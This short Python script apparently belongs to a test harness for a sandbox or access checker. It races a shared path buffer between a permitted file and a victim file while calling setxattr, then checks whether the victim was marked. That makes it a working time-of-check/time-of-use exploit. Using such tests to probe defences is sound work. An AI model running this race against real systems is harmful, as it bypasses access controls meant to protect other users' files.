"""The path changes between the check and the setting of an attribute."""

import os

from attack import WORLD, Shared, race, syscall, tries

path = Shared(f"{WORLD.granted}/plain.txt".encode(), WORLD.victim.encode())


def strike() -> bool:
    """Set an attribute of whatever the path says now."""
    syscall("setxattr", path.address, b"user.made", b"1", 1, 0)
    return "user.made" in os.listxattr(WORLD.victim)


with tries():
    race(path.flip, strike)
